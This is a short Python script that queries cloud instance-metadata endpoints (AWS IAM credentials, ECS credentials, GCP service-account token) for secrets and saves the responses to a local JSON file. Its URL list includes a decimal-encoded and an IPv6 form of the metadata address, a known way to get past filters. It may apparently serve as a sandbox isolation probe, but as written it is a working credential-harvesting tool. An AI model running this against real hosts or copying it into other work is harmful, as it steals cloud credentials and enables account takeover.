"""Asks the cloud's metadata service for credentials."""
import json
import urllib.request

URLS = [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.170.2/v2/credentials/",
    "http://2852039166/latest/meta-data/",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
]

answers = {}
for url in URLS:
    request = urllib.request.Request(url, headers={"Metadata-Flavor": "Google"})
    try:
        with urllib.request.urlopen(request, timeout=1) as response:
            answers[url] = response.read(200).decode("utf-8", "replace")
    except (OSError, ValueError) as error:
        print(url, "->", error)

json.dump({"answers": answers}, open("/work/result.json", "w"))
